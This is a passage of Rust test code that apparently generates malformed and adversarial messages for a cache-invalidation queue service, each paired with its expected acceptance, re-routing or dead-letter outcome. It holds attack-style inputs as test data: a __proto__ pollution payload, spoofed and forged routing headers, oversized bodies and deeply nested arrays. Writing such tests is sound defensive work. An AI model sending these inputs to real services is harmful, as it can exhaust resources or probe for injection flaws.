                    format!("wrong type: {field} = {value}"),
                    text(&v),
                    t.dead("invalid_message"),
                    None,
                )
            }
            2 => {
                // What this kind needs, taken away.
                let v = match source {
                    "stock" => json!({"contentId": 1, "quantity": 1}),
                    "assortment" => json!({"brandId": 40}),
                    "translation" => json!({"contentId": 1}),
                    _ => json!({"promotionId": 3, "indexKeys": ["trTR"]}),
                };
                (
                    "a required field missing".into(),
                    text(&v),
                    t.dead("invalid_message"),
                    None,
                )
            }
            3 => {
                let (about, value, class): (&str, Value, &str) = self.rng.pick_owned(&[
                    ("the year 2100", json!(FUTURE), "bad_invalidation_time"),
                    ("i64::MAX", json!(i64::MAX), "bad_invalidation_time"),
                    ("i64::MIN", json!(i64::MIN), "bad_invalidation_time"),
                    ("-1", json!(-1), "bad_invalidation_time"),
                    (
                        "seconds, not ms",
                        json!(1_763_856_000i64),
                        "bad_invalidation_time",
                    ),
                    ("the year 2001", json!(PAST), "bad_invalidation_time"),
                    ("1e20", json!(1e20), "invalid_message"),
                ]);
                let mut v = base.clone();
                v["eventTime"] = value;
                (
                    format!("bogus eventTime: {about}"),
                    text(&v),
                    t.dead(class),
                    None,
                )
            }
            4 => {
                let s = serde_json::to_string(&base).unwrap();
                (
                    "event padded over worker.max_body_bytes".into(),
                    Body::Repeat(Repeat {
                        prefix: format!("{},\"padding\":\"", &s[..s.len() - 1]),
                        unit: "z".into(),
                        times: OVERSIZED + self.rng.below(10_000),
                        suffix: "\"}".into(),
                    }),
                    t.dead("body_too_large"),
                    None,
                )
            }
            5 => {
                // Nested where a number belongs: the wrong type, found
                // at the first level without recursing further.
                let depth = 129 + self.rng.below(5000);
                (
                    format!("contentIds nested {depth} arrays deep"),
                    Body::Repeat(Repeat {
                        prefix: "{\"contentIds\":".into(),
                        unit: "[".into(),
                        times: depth,
                        suffix: "0".to_string() + &"]".repeat(depth) + "}",
                    }),
                    t.dead("invalid_message"),
                    None,
                )
            }
            6 => {
                let mut v = base.clone();
                if source == "assortment" || source == "translation" {
                    // These kinds take their keys from the country or language.
                    v["country"] = json!("XX");
                    v["language"] = json!("xx");
                    (
                        "no index key serves the country or language".into(),
                        text(&v),
                        t.dead("invalid_message"),
                        None,
                    )
                } else {
                    v["indexKeys"] = json!([*self.rng.pick(&["xxXX", "trtr", "TR", ""])]);
                    (
                        format!("unknown index key {}", v["indexKeys"]),
                        text(&v),
                        t.dead("unknown_index_key"),
                        None,
                    )
                }
            }
            7 => {
                // Tolerated: unknown fields, spoofed headers.
                let (v, queue, ids) = self.accepted_event(source);
                let mut v = v;
                v["__proto__"] = json!({"polluted": true});
                v["parameterName"] = json!("script");
                (
                    "unknown fields and spoofed headers on a good event".into(),
                    text(&v),
                    Expect::Accepted { queue, ids },
                    Some(self.spoofed_headers()),
                )
            }
            8 => {
                let mut v = base.clone();
                v["v"] = json!(self.rng.range(2, 50));
                (
                    format!("version {}", v["v"]),
                    text(&v),
                    t.dead("unsupported_version"),
                    None,
                )
            }
            9 => {
                let (about, body, class): (&str, Body, &str) = match self.rng.below(6) {
                    0 => ("empty body", raw(""), "malformed_json"),
                    1 => ("JSON null", raw("null"), "invalid_message"),
                    2 => ("a JSON array of ids", raw("[1,2,3]"), "invalid_message"),
                    3 => (
                        "invalid UTF-8",
                        raw(b"{\"country\":\"D\xc3\"}".to_vec()),
                        "malformed_json",
                    ),
                    4 => (
                        "a lone surrogate escape",
                        raw("{\"language\":\"\\ud800\"}"),
                        "malformed_json",
                    ),
                    _ => ("single quotes", raw("{'contentId': 1}"), "malformed_json"),
                };
                (about.into(), body, t.dead(class), None)
            }
            _ => {
                // A huge but legal array of ids: split into requests
                // within dispatcher.max_ids, never refused.
                let n = 10_001 + self.rng.below(15_000);
                if source == "assortment" {
                    let mut v = base.clone();
                    v["brandId"] = json!("40");
                    (
                        "brandId as a string".into(),
                        text(&v),
                        t.dead("invalid_message"),
                        None,
                    )
                } else {
                    let first = self.fresh_ids(1)[0];
                    let extra = match source {
                        "stock" => ",\"event\":\"created\"",
                        "translation" => ",\"language\":\"tr\"",
                        _ => "",
                    };
                    (
                        format!("{n} content ids in one event: split, not refused"),
                        Body::Repeat(Repeat {
                            prefix: format!("{{\"indexKeys\":[\"enHR\"]{extra},\"contentIds\":["),
                            unit: format!("{first},"),
                            times: n - 1,
                            suffix: format!("{first}]}}"),
                        }),
                        Expect::Accepted {
                            queue: None,
                            ids: vec![],
                        },
                        None,
                    )
                }
            }
        };
        Msg {
            about,
            exchange: t.exchange,
            routing_key: t.routing_key,
            headers: headers.unwrap_or_default(),
            body,
            expect,
        }
    }

    /// A good event of `source` with fresh ids and where they arrive.
    fn accepted_event(&mut self, source: &str) -> (Value, Option<String>, Vec<i64>) {
        let ids = self.fresh_ids(2);
        let key = *self.rng.pick(INDEX_KEYS);
        let (v, rk, key) = match source {
            "price" => (json!({"contentIds": ids, "indexKeys": [key]}), "price", key),
            "stock" => (
                json!({"contentIds": ids, "event": "updated", "quantity": 0, "indexKeys": [key]}),
                "stock",
                key,
            ),
            "promotion" => (
                json!({"contentIds": ids, "indexKeys": [key]}),
                "promotion",
                key,
            ),
            "product" => (
                json!({"contentIds": ids, "indexKeys": [key]}),
                "product",
                key,
            ),
            "translation" => (
                json!({"contentIds": ids, "language": "tr"}),
                "translation",
                "trTR",
            ),
            // Assortment searches by brand: no ids of its own to check.
            _ => return (json!({"brandId": 7, "country": "AT"}), None, vec![]),
        };
        (v, Some(outbound(rk, key)), ids)
    }

    /// A valid request of type `rk` with fresh content ids, and the
    /// outbound queue they must reach.
    fn accepted_request(&mut self, rk: &str) -> (Value, Expect) {
        let mut body = self.valid_request(rk);
        let n = 1 + self.rng.below(3);
        let ids = self.fresh_ids(n);
        body["parameterIds"] = json!(ids);
        // `unwrap`: `valid_request` names one index key.
        let key = body["indexKeys"][0].as_str().unwrap().to_string();
        let expect = Expect::Accepted {
            queue: Some(outbound(rk, &key)),
            ids,
        };
        (body, expect)
    }

    /// A message published with a routing key no lane binds: the alternate
    /// exchange takes it to `invalidation.unroutable`, which the dispatcher
    /// consumes. By the lane rule it is re-routed to the lane of its type
    /// (or of its key in lower case when the body has no readable type),
    /// else dead-lettered there as `unknown_routing_key`.
    fn unroutable_case(&mut self, round: usize) -> Msg {
        let keys = [
            "refund",
            "PRICE",
            "Price",
            "price.tr_tr",
            "",
            "#",
            "*",
            "price ",
            "prices",
            "price\u{0000}",
            "brand-category",
            "a.b.c.d.e.f",
        ];
        let unroutable = Target {
            exchange: "invalidation.requests".into(),
            routing_key: String::new(),
            dlq: "invalidation.unroutable.dlq".into(),
        };
        let rerouted = |key: &str, then: Expect| Expect::Rerouted {
            key: key.into(),
            then: Box::new(then),
        };
        let lane_dlq = |key: &str| {
            if FAST_KEYS.contains(&key) {
                "invalidation.requests.fast.dlq".to_string()
            } else {
                "invalidation.requests.bulk.dlq".to_string()
            }
        };
        let mut headers = BTreeMap::new();
        let (about, key, body, expect): (String, String, Body, Expect) = match round {
            // A request of its own type: re-routed by the type.
            0..=23 => {
                let key = keys[round % keys.len()];
                let rk = if round < 12 {
                    "price"
                } else {
                    *self.rng.pick(if round.is_multiple_of(2) {
                        FAST_KEYS
                    } else {
                        BULK_KEYS
                    })
                };
                let (body, then) = self.accepted_request(rk);
                (
                    format!(
                        "routing key {key:?} matches no lane; the type {} does",
                        upper(rk)
                    ),
                    key.into(),
                    text(&body),
                    rerouted(rk, then),
                )
            }
            // No readable type and a key that matches no lane in any case.
            24..=29 => {
                let key =
                    *self
                        .rng
                        .pick(&["refund", "", "#", "prices", "a.b.c.d.e.f", "brand-category"]);
                let mut body = self.valid_request("price");
                let (what, body) = if round.is_multiple_of(2) {
                    body["invalidationType"] = json!("REFUND");
                    ("an unknown type", text(&body))
                } else {
                    let b = serde_json::to_vec(&body).unwrap();
                    ("a truncated body", raw(b[..b.len() / 2].to_vec()))
                };
                (
                    format!("routing key {key:?} matches no lane, and {what} names none"),
                    key.into(),
                    body,
                    unroutable.dead("unknown_routing_key"),
                )
            }
            // No readable type, but the key in lower case is a lane's: it
            // goes there, and the lane refuses the body.
            30..=35 => {
                let (key, lane) = *self.rng.pick(&[
                    ("PRICE", "price"),
                    ("Stock", "stock"),
                    ("price ", "price"),
                    ("BRAND_CATEGORY", "brand_category"),
                    ("Tag", "tag"),
                    ("PROMOTION", "promotion"),
                ]);
                let mut body = self.valid_request(lane);
                let (what, body, class) = if round.is_multiple_of(2) {
                    body["invalidationType"] = json!("REFUND");
                    ("an unknown type", text(&body), "unknown_type")
                } else {
                    let b = serde_json::to_vec(&body).unwrap();
                    (
                        "a truncated body",
                        raw(b[..b.len() / 2].to_vec()),
                        "malformed_json",
                    )
                };
                (
                    format!(
                        "routing key {key:?} in lower case is a lane's; {what} is refused there"
                    ),
                    key.into(),
                    body,
                    rerouted(
                        lane,
                        Expect::DeadLetter {
                            queue: lane_dlq(lane),
                            class: class.into(),
                        },
                    ),
                )
            }
            // A forged `x-rerouted-from`: taken at its word, so the message
            // is not re-routed again (no loop), but dead-lettered.
            36..=39 => {
                let key = keys[round % keys.len()];
                headers.insert(
                    "x-rerouted-from".to_string(),
                    json!("invalidation.requests.fast (forged)"),
                );
                let body = self.valid_request("price");
                (
                    format!("routing key {key:?} with a forged x-rerouted-from"),
                    key.into(),
                    text(&body),
                    unroutable.dead("unknown_routing_key"),
                )
            }
            // Over `worker.max_body_bytes`: refused before anything decodes it.
            _ => {
                let key = keys[round % keys.len()];
                let body = self.valid_request("price");
                let s = serde_json::to_string(&body).unwrap();
                let prefix = format!("{},\"pad\":\"", &s[..s.len() - 1]);
                (
                    format!("routing key {key:?} matches no lane, body over worker.max_body_bytes"),
                    key.into(),
                    Body::Repeat(Repeat {
                        prefix,
                        unit: "x".into(),
                        times: OVERSIZED,
                        suffix: "\"}".into(),
                    }),
                    unroutable.dead("body_too_large"),
                )
            }
        };
        Msg {
            about,
            exchange: unroutable.exchange,
            routing_key: key,
            headers,
            body,
            expect,
        }
    }
}
